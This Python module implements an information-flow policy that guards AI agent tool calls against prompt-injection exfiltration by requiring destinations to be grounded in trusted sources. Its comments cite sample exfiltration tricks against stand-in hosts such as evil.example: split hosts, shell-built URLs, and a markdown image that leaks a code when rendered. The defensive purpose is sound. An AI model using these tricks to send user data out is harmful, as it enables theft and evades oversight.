"""Builtin policies: flow (where data may go, judged by where it came from).

``information_flow`` stops prompt injection at the moment it matters: when a
write tool is about to send data somewhere.  It reads the tool metadata on the
event's canonical action (``sinks``: arguments that choose a destination,
``content``: free text that may carry links or addresses) and the session's
provenance record (``context["provenance"]``):

- **integrity**: once the session has seen untrusted content (or always, with
  ``require_taint: false``), every sink value must be grounded in the user's
  requests or trusted tool output, and so must every link, address, IBAN and
  phone number inside content arguments, and every link, address, IBAN or
  domain in an argument the metadata does not declare (only links and domains
  for a read tool: fetching a URL sends data to it).  Otherwise ASK (or DENY);
- **secrecy**: data that came out of a ``sensitive`` tool may not leave through
  a sink whose destination is outside ``always_grounded`` without ASK.

Reasons name the argument, the value and where it first appeared, e.g.
``recipient `x@evil.example` first appeared in untrusted output of `read_inbox```;
a value that came from sensitive output is never repeated.
"""

from __future__ import annotations

import fnmatch
import itertools
import re
from collections.abc import Callable, Iterable, Iterator, Mapping, Sequence
from typing import Any

from goalrail.policies.arguments import argument_values, leaf_strings
from goalrail.policies.builtins._answers import answer_images
from goalrail.policies.builtins._flow_roles import explain, label, named_problems, sensitive_in
from goalrail.policies.declare import Param, builtin, registry_entries
from goalrail.policies.listens import listens_to
from goalrail.policies.provenance import (
    EMPTY,
    Provenance,
    extract_values,
    kind_of,
    kinds_for,
    norm_domain,
    url_host,
)
from goalrail.policies.provenance_assembled import (
    connects,
    dialled,
    filled,
    found_in,
    readings,
    templated_hosts,
    words_of,
)
from goalrail.policies.schema import PolicyEvent, PolicyResponse, Verdict

Policy = Callable[[PolicyEvent], PolicyResponse | None]

UNTRUSTED_LABEL = "untrusted_content"
_MAX_REPORTED = 3


def _strings(value: object) -> list[str]:
    return [s.strip() for s in leaf_strings(value, skip_blank=True, max_depth=8)]


class _Allow:
    """``always_grounded``: domains (and ``*.`` globs), addresses and exact values."""

    def __init__(self, entries: list[str]) -> None:
        self.exact = {e.strip().lower() for e in entries if "*" not in e}
        self.globs = [re.compile(fnmatch.translate(e.strip().lower())) for e in entries if "*" in e]

    def _domain_ok(self, domain: str | None) -> bool:
        if not domain:
            return False
        d = norm_domain(domain)
        if d in self.exact or any(g.match(d) for g in self.globs):
            return True
        return any(d.endswith("." + e) for e in self.exact if "." in e and "@" not in e)

    def covers(self, value: str, kind: str | None = None) -> bool:
        v = value.strip().lower()
        if not v:
            return True
        if v in self.exact:
            return True
        kind = kind or kind_of(value)
        if kind in (
            "url",
            "domain",
        ):  # a glob such as `*.corp.example` names hosts: `https://evil/?.corp.example` is no host
            return self._domain_ok(url_host(value) if kind == "url" else v)
        if any(g.match(v) for g in self.globs):
            return True
        if kind == "email":  # (also spelled out: `bob [at] corp [dot] example`)
            address = next((k[6:] for k in kinds_for(value) if k[:6] == "email:"), v)
            return "@" in address and self._domain_ok(address.rsplit("@", 1)[1])
        return False


@builtin(
    "Information flow",
    "Stops prompt injection: after untrusted content, the destinations of write tools "
    "(their `sinks`) and links or addresses in their `content` (and in arguments the metadata does not "
    "declare; in a read tool, the links it fetches) must be grounded in the user's "
    "requests or trusted tool output, else ASK (or DENY); data from `sensitive` tools may not leave "
    "for an outside destination without ASK. Needs tool metadata (`tools:` in the server config or "
    "agent spec).",
    params={
        "on_violation": Param("Verdict for an ungrounded destination or a secret leaving.", enum=["ask", "deny"]),
        "require_taint": Param(
            "Check only once the session has seen untrusted content (label "
            "`untrusted_content`); false checks every write."
        ),
        "always_grounded": Param(
            "Destinations that need no grounding: the organisation's domains "
            "(`corp.example`, also its subdomains), `*.` globs, addresses or exact values.",
            maxItems=200,
            items={"minLength": 1, "maxLength": 253},
        ),
        "check_content": Param(
            "Also require links, addresses, IBANs and phone numbers inside `content` arguments to be grounded."
        ),
        "secrecy": Param(
            "ASK when data from a `sensitive` tool's output is sent to a destination outside `always_grounded`."
        ),
        "tools": Param(
            "Only check these tools (globs over harness or canonical names); "
            "null checks every tool whose metadata declares sinks or content.",
            maxItems=200,
            items={"minLength": 1, "maxLength": 200},
        ),
    },
)
@listens_to(types=("tool_call", "response", "llm_response"))
def information_flow(
    on_violation: str = "ask",
    require_taint: bool = True,
    always_grounded: Sequence[str] = (),
    check_content: bool = True,
    secrecy: bool = True,
    tools: list[str] | None = None,
) -> Policy:
    """Require destinations and links of write tools to be grounded in trusted sources."""
    verdict: Verdict = "DENY" if on_violation == "deny" else "ASK"
    allow = _Allow(list(always_grounded or []))
    only = [re.compile(fnmatch.translate(t)) for t in tools] if tools else None

    def bad(prov: Provenance, value: str) -> str | None:
        """The value to explain if ``value`` is not grounded (itself, or a link it carries), else None."""
        keys = kinds_for(value)
        kind = keys[0].split(":", 1)[0] if keys and value.strip() else "text"
        if allow.covers(value, kind) or prov.grounded_keys(keys):
            # a link carrying another (a redirect's `?url=`) is only as good as the link it carries
            carried = _carried(value, keys[0]) if kind == "url" else ()
            return next((b for v in carried if (b := bad(prov, v)) is not None), None)
        # free text is grounded word by word, unless it spells a destination (`https://x y`, `a@b c`)
        grounded = kind == "text" and prov.grounded_words(value) and not _spells_destination(value)
        return None if grounded else value

    def call(prov: Provenance, tainted: bool, target: object, args: object, action: Mapping[str, Any]) -> list[str]:
        """What is wrong with one tool call: a reason naming the tool, or none."""
        name = str(action.get("original") or target or "?")
        if only is not None and not any(rx.match(name) or rx.match(action.get("tool") or "") for rx in only):
            return []
        if not isinstance(args, Mapping) or not args or not (tainted or (secrecy and prov.sensitive_seen)):
            return []
        sinks, content = action.get("sinks") or [], action.get("content") or []
        others = [(k, filled(t)) if "$" in t else (k, t) for k, t in _undeclared(args, [*sinks, *content])]
        if not sinks and not content and not others and action.get("kind") == "read":
            return []  # (a write's numbers and flags are read by name below: `new_pin: "9137"`, `public: true`)
        problems: list[str] = []
        sink_values = list(_texts(args, sinks))
        destinations = [value for _, value in sink_values]
        kinds = _READ_KINDS if action.get("kind") == "read" else _WRITE_KINDS
        if tainted:
            problems += [explain(prov, path, b) for path, value in sink_values if (b := bad(prov, value)) is not None]
            if check_content:  # integrity: what the content links to
                problems += _ungrounded_links(prov, bad, _texts(args, content), _CONTENT_KINDS)
            problems += _ungrounded_links(prov, bad, others, kinds)
            if kinds is _WRITE_KINDS:  # a number the tool dials or texts (`send_sms(to="+1 415 …")`)
                numbers = [(k, t) for k, t in others if dialled(k, t)]
                problems += [explain(prov, k, b) for k, t in numbers if (b := bad(prov, t)) is not None]
            if others and not problems:
                problems += _built_hosts(prov, bad, others, kinds)
        if kinds is _WRITE_KINDS and (tainted or secrecy):  # arguments that name a destination, undeclared
            declared = {p.split("[", 1)[0].split(".", 1)[0] for p in [*sinks, *content]}
            found, named = named_problems(prov, bad, args, declared)
            problems += found if tainted else []
            destinations += named
        if secrecy and prov.sensitive_seen:
            destinations += [value for _, text in others for _, value in _links(text, kinds)]
            if any(not allow.covers(d) for d in destinations):
                problems += _secrets(prov, [*_texts(args, content), *others])
        return _summed(name, problems)

    def policy(event: PolicyEvent) -> PolicyResponse | None:
        etype = event["type"]
        if etype != "tool_call" and etype != "response" and etype != "llm_response":
            return None
        ctx = event["context"]
        prov: Provenance = ctx.get("provenance") or EMPTY
        tainted = not require_taint or prov.tainted or UNTRUSTED_LABEL in (ctx.get("labels") or {})
        if etype == "tool_call":
            data = event.get("data")
            args = data.get("arguments") if isinstance(data, Mapping) else None
            found = call(prov, tainted, event.get("target"), args, ctx.get("action") or {})
        else:  # an answer: the images it shows, and (a model's) the tool calls it makes
            images = _answer(event, bad) if tainted else []
            found = ["answer: " + "; ".join(images[:_MAX_REPORTED])] if images else []
            for made in ctx.get("calls") or () if etype == "llm_response" else ():
                found += call(prov, tainted, made["name"], made["arguments"], made["action"])
        return {"result": verdict, "reason": "; ".join(found[:_MAX_REPORTED])} if found else None

    return policy


# What is checked inside free text: in declared content, in the undeclared arguments of a write tool (or
# of a tool nobody described), and in those of a read tool (fetching a URL sends data to its host).
_CONTENT_KINDS = ("email", "url", "iban", "phone", "domain")
_WRITE_KINDS = ("email", "url", "iban", "domain")
_READ_KINDS = ("url", "domain")
#: Every link, address, domain, IBAN and phone number holds one (``bob [at] evil [dot] example`` a spelled ``at``).
_MAY_LINK = re.compile(r"[@.\d%:&]|\bat\b", re.IGNORECASE)


def _summed(name: str, problems: list[str]) -> list[str]:
    if not problems:
        return []
    problems = list(dict.fromkeys(problems))  # (a number dialled and named a destination is one finding)
    extra = f" (and {len(problems) - _MAX_REPORTED} more)" if len(problems) > _MAX_REPORTED else ""
    return [f"{name}: " + "; ".join(problems[:_MAX_REPORTED]) + extra]


def _texts(args: Mapping[str, object], paths: Iterable[str]) -> Iterator[tuple[str, str]]:
    """(path, string) for every string each argument path holds."""
    for path in paths:
        for text in _strings(argument_values(args, path)):
            yield path, text


def _undeclared(args: Mapping[str, object], paths: Sequence[str]) -> list[tuple[str, str]]:
    """(argument, string) for every string in the arguments no declared path covers whole."""
    covered = {p[:-3] if p.endswith("[*]") else p for p in paths}
    out: list[tuple[str, str]] = []
    for key, value in args.items():
        if key not in covered and not isinstance(value, (bool, int, float)) and value is not None:
            out.extend((key, s) for s in _strings(value) if not _is_number(s))
    # a destination split across two arguments (`host: hooks.evil-collect`, `suffix: .support`) is read joined
    out += [(k, a + b) for (_, a), (k, b) in itertools.pairwise(out) if a[-1:] in _JOINTS or b[:1] in _JOINTS]
    return out


_JOINTS = frozenset(".@:/")


def _is_number(text: str) -> bool:
    return text.replace(".", "", 1).lstrip("-").isdigit()


def _links(text: str, kinds: Sequence[str]) -> Iterator[tuple[str, str]]:
    """The destinations of ``kinds`` a text holds; a domain only where no link or address already names it."""
    found = dict.fromkeys(extract_values(text, words=False))
    hosts = {v for k, v in found if k == "domain"} if "domain" in kinds else set()
    if hosts:
        hosts -= {url_host(v) for k, v in found if k == "url"}
        hosts -= {v.rsplit("@", 1)[1] for k, v in found if k == "email"}
    for kind, value in found:
        if kind in kinds and (kind != "domain" or value in hosts):
            yield kind, value


def _ungrounded_links(
    prov: Provenance,
    bad: Callable[[Provenance, str], str | None],
    texts: Iterable[tuple[str, str]],
    kinds: Sequence[str],
) -> list[str]:
    out: list[str] = []
    for path, text in texts:
        if _MAY_LINK.search(text) or not text.isascii():  # (`evil。example`, fullwidth `ｅｖｉｌ．ｅｘａｍｐｌｅ`)
            found = (bad(prov, v) for _, v in _links(text, kinds))
            out += [explain(prov, path, b, inside=True) for b in dict.fromkeys(found) if b is not None]
    return out


def _assembled(
    prov: Provenance, bad: Callable[[Provenance, str], str | None], texts: list[tuple[str, str]]
) -> list[str]:
    """Domains untrusted output named that the arguments assemble (``provenance_assembled``): looked for in
    each argument, then in all of them joined (a host split over fields)."""
    domains = list(prov.untrusted_domains())
    if not domains:
        return []
    keys = list(dict.fromkeys(k for k, _ in texts))
    joined = "+".join(keys)
    found = [(k, d) for k, t in texts for d in found_in(readings(t), domains, words_of(t))]
    if not found and len(keys) > 1:
        found = [(joined, d) for d in found_in(readings("\x00".join(t for _, t in texts)), domains)]
    out = [explain(prov, k, b, inside=True) for k, d in dict.fromkeys(found) if (b := bad(prov, d)) is not None]
    return list(dict.fromkeys(out))


def _built_hosts(
    prov: Provenance,
    bad: Callable[[Provenance, str], str | None],
    others: list[tuple[str, str]],
    kinds: Sequence[str],
) -> list[str]:
    """Hosts the undeclared arguments build rather than spell: by code or split over fields
    (`'ev'+'il.example'`), known only to the shell (`curl $A.$B/in`), or connected to by code that
    names none (`socket.create_connection(('.'.join(parts), 80))`)."""
    problems = _assembled(prov, bad, others)
    if not problems:
        built = [(k, h) for k, t in others for h in templated_hosts(t)]
        problems += [_built(k, h) for k, h in built if "$" in h]
        problems += _ungrounded_links(prov, bad, [(k, h) for k, h in built if "$" not in h], kinds)
    if not problems:
        problems += [_unnamed(k, api) for k, t in others if (api := connects(t)) and not any(_links(t, kinds))]
    return problems


def _built(path: str, host: str) -> str:
    shown = host if len(host) <= 80 else host[:77] + "..."
    return f"host `{shown}` in `{label(path)}` is assembled at run time from shell variables"


def _unnamed(path: str, api: str) -> str:
    return f"`{label(path)}` connects (`{api}(`) to a host it names nowhere: built at run time"


def _carried(link: str, key: str) -> Iterator[str]:
    """The links a link carries after its host (``?url=https%3A%2F%2F…``), found as provenance finds them."""
    if "//" in link.split("//", 1)[-1] or "%" in link or "@" in link:
        for kind, value in extract_values(link, words=False):
            if kind == "url" and f"url:{value}" != key:
                yield value


def _answer(event: PolicyEvent, bad: Callable[[Provenance, str], str | None]) -> list[str]:
    """The agent's answer: an image it shows is fetched when the answer is rendered, so its link is a
    destination (``![](https://evil.example/p.png?c=<code>)`` leaks the code without a click)."""
    prov: Provenance = event["context"].get("provenance") or EMPTY
    problems: list[str] = []
    for link in answer_images(event["type"], event.get("data")):
        if (b := bad(prov, link)) is not None:
            problems.append(explain(prov, "answer", b, inside=True).replace("link", "image", 1))
    return problems


def _spells_destination(value: str) -> bool:
    return any(kind in ("email", "url", "domain") for kind, _ in extract_values(value, words=False))


def _secrets(prov: Provenance, texts: Iterable[tuple[str, str]]) -> list[str]:
    """Secrecy: the first finding per argument."""
    out: dict[str, str] = {}
    for path, text in texts:
        if path not in out and (hits := sensitive_in(prov, text)):
            out[path] = f"`{label(path)}` carries data from sensitive output of `{hits[0]}`"
    return list(out.values())


POLICY_REGISTRY = registry_entries(__name__)
